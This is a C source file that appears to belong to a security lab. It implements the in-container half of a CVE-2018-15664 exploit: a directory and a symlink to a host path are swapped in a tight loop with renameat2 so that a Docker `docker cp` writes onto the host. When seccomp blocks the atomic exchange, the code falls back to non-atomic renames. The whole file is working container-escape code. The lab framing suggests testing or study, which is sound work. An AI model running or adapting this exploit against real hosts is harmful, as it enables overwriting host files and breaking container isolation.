/*
 * CVE-2018-15664, the attacker's in-container part (as in the published PoC, "symlink_swap"): a
 * directory the operator will `docker cp` into, and next to it a symlink to a host path, exchanged
 * atomically with renameat2(RENAME_EXCHANGE) in a tight loop. The daemon resolves the path while it
 * is the directory and writes after it became the symlink, which the host kernel then follows.
 *
 * Usage (inside the container): /attack <dir> <symlink target> [--no-fallback]
 * The target is an absolute path ON THE HOST (the PoC used "/"; the lab names a scratch directory).
 * When RENAME_EXCHANGE is refused (seccomp), the attacker falls back to swapping with three plain
 * renames (non-atomic: the directory is briefly missing), unless --no-fallback.
 * Creates <dir's parent>/.ready once the loop runs; loops for at most 12 s (the manager kills it).
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <errno.h>
#include <fcntl.h>
#include <libgen.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: %s <dir> <symlink target> [--no-fallback]\n", argv[0]);
    return 2;
  }
  const char *dir = argv[1], *target = argv[2];
  int fallback = !(argc > 3 && strcmp(argv[3], "--no-fallback") == 0);
  char parentbuf[4096], swap[4200], stash[4200], ready[4200];
  snprintf(parentbuf, sizeof parentbuf, "%s", dir);
  const char *parent = dirname(parentbuf);
  snprintf(swap, sizeof swap, "%s.swap", dir);
  snprintf(stash, sizeof stash, "%s.stash", dir);
  snprintf(ready, sizeof ready, "%s/.ready", parent);
  if (bw_mkdirs(dir, 0755) != 0) {
    bw_step("attack: create the directory", 0, errno, dir);
    return 1;
  }
  unlink(swap);
  if (symlink(target, swap) != 0) {
    bw_step("attack: create the symlink to the host path", 0, errno, swap);
    return 1;
  }
  bw_step("attack: create the symlink to the host path", 1, 0, target);
  if (bw_write_file(ready, "") != 0) return 1;

  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  int atomic = 1;
  unsigned long swaps = 0;
  for (;;) {
    if ((swaps & 1023) == 0) {
      clock_gettime(CLOCK_MONOTONIC, &now);
      if (now.tv_sec - start.tv_sec >= 12) break;
    }
    if (atomic) {
      if (syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, swap, RENAME_EXCHANGE) == 0) {
        if (swaps++ == 0) bw_step("attack: exchange directory and symlink (renameat2 RENAME_EXCHANGE)", 1, 0, dir);
        continue;
      }
      bw_step("attack: exchange directory and symlink (renameat2 RENAME_EXCHANGE)", 0, errno, dir);
      if (!fallback) return 1;
      atomic = 0;
    }
    /* Non-atomic swap: dir -> stash, swap -> dir, stash -> swap. */
    if (rename(dir, stash) != 0 || rename(swap, dir) != 0 || rename(stash, swap) != 0) {
      bw_step("attack: swap directory and symlink (three renames)", 0, errno, dir);
      return 1;
    }
    if (swaps++ == 0) bw_step("attack: swap directory and symlink (three renames)", 1, 0, dir);
  }
  return 0;
}
